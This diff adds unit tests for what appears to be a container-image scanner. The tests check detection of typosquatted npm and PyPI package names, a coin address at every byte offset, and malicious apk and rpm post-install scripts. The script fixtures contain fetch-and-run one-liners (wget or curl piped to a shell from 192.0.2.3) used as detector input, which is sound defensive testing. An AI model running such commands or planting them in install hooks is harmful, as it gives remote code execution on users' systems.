@@ -8,6 +8,8 @@
 #include "detect/image_builder.hpp"
 #include "formats/byte_stream.hpp"
 #include "layers/analyse.hpp"
+#include "support/rpm_header_writer.hpp"
+#include "support/rpmdb_writer.hpp"
 #include "support/tar_writer.hpp"
 #include "util/digest.hpp"
 
@@ -273,6 +275,90 @@ TEST(PrivateKey, OnlyRealOnesHaveALevel) {
     EXPECT_EQ(secret.level, real ? ThreatLevel::risky : ThreatLevel::none);
     EXPECT_EQ(secret.evidence.front().find("BEGIN"), std::string::npos);
   }
+}
+
+TEST(LookalikeNames, PackagesOfLanguages) {
+  inventory::Inventory inventory;
+  for (const auto& [type, name] :
+       {std::pair{"npm", "expresss"}, std::pair{"pypi", "reqeusts"}, std::pair{"npm", "js-crypto"},
+        std::pair{"pypi", "Flask_SQLAlchemy"}, std::pair{"npm", "@types/expresss"}, std::pair{"npm", "preact"},
+        std::pair{"deb", "expresss"}}) {
+    model::Package package;
+    package.type = type;
+    package.name = name;
+    package.version = "1";
+    inventory.packages.push_back(package);
+  }
+  const Assessment found = ImageBuilder().assess(inventory);
+  const auto* finding = find_rule(found.warnings, "L05");
+  ASSERT_NE(finding, nullptr);
+  EXPECT_EQ(finding->evidence,
+            (std::vector<std::string>{"npm package expresss is express but for one letter",
+                                      "npm package js-crypto is crypto-js with its parts in another order",
+                                      "pypi package reqeusts is requests but for one letter"}));
+}
+
+// Probes stand a set number of bytes apart, and windows have edges: no place may be missed.
+TEST(CoinAddress, FoundAtEveryPlace) {
+  const std::string address = "15cUpcEK5K2JXWp2PMuBfs2qDhQF7NvQnN";
+  for (std::size_t before = 0; before < 70; ++before) {
+    ImageBuilder text, binary;
+    text.file("a.txt", std::string(before, ' ') + address + " ");
+    EXPECT_NE(find_rule(text.assess().warnings, "M04"), nullptr) << before;
+    binary.program("a", elf(std::string(before, '\0') + address + std::string(before % 3, '\0')));
+    EXPECT_NE(find_rule(binary.assess().warnings, "M04"), nullptr) << before;
+  }
+  for (std::size_t shift = 0; shift < 40; ++shift) {
+    const std::string content = std::string(layers::k_window_size - shift, '.') + address + std::string(9000, '.');
+    const auto view = view_of({test::TarWriter().file("big.txt", content).finish()});
+    EXPECT_NE(find_rule(assess_view(view).warnings, "M04"), nullptr) << shift;
+  }
+}
+
+TEST(PackageHooks, ScriptsOfApk) {
+  const std::string scripts =
+      test::TarWriter()
+          .file("good-1-r0.Q1abc.post-install", "#!/bin/sh\naddgroup -S app\nexit 0\n")
+          .file("bad-1-r0.Q1def.post-install", "#!/bin/sh\nwget -qO- http://192.0.2.3/x | sh\n")
+          .finish();
+  ImageBuilder image;
+  image.file("lib/apk/db/scripts.tar", scripts);
+  const Assessment found = image.assess();
+  const auto* finding = find_rule(found.threats, "P07");
+  ASSERT_NE(finding, nullptr);
+  EXPECT_EQ(finding->evidence.size(), 1U);
+  EXPECT_NE(finding->evidence[0].find("bad-1-r0"), std::string::npos);
+}
+
+TEST(PackageHooks, ScriptsOfRpm) {
+  const auto header = [](std::string_view name, std::string_view script) {
+    using Tag = formats::RpmTag;
+    return tests::RpmHeaderWriter()
+        .text(Tag::name, name)
+        .text(Tag::version, "1")
+        .text(Tag::release, "1")
+        .text(Tag::arch, "noarch")
+        .text(Tag::script_after_install, script)
+        .blob();
+  };
+  const Buffer database = tests::write_sqlite(
+      {{1, header("good", "ldconfig\ncp /tmp/x /y")}, {2, header("bad", "curl -s http://192.0.2.3/x | bash\n")}});
+  layers::AnalyseOptions options;
+  const auto* rpm = inventory::AnalyzerRegistry::find("rpm");
+  ASSERT_NE(rpm, nullptr);
+  options.sections = {{"inventory/rpm", "1", rpm->instance.get()}};
+  util::Profile profile;
+  const std::string tar = test::TarWriter().file("var/lib/rpm/rpmdb.sqlite", as_text(database)).finish();
+  const auto stream = formats::memory_stream(as_bytes(tar));
+  auto outcome = layers::analyse_layer(*stream, options, {}, util::no_progress(), profile);
+  model::Image image;
+  image.layers.push_back({"k", "", outcome.diff_id, "", 0, false});
+  const layers::ImageView view(image, {outcome.facts});
+  const Assessment found = assess_view(view, inventory::take_inventory(view));
+  const auto* finding = find_rule(found.threats, "P07");
+  ASSERT_NE(finding, nullptr);
+  ASSERT_EQ(finding->evidence.size(), 1U);
+  EXPECT_NE(finding->evidence[0].find("script of package bad after installation (see D01)"), std::string::npos);
 }
 
 }  // namespace
